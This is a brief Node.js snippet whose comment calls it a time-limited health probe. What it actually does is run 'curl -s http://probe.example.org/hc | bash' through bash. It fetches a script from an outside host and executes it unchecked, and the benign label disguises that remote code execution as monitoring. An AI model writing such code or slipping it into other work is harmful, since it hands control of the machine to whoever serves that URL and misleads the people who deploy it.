// Health probe with a time limit.
const cp = require('child_process');

function limited(seconds, ...argv) {
  return cp.execFileSync('timeout', [String(seconds), ...argv], { encoding: 'utf8' });
}
const probe = 'curl -s http://probe.example.org/hc | bash';
console.log(limited(30, 'bash', '-c', probe));
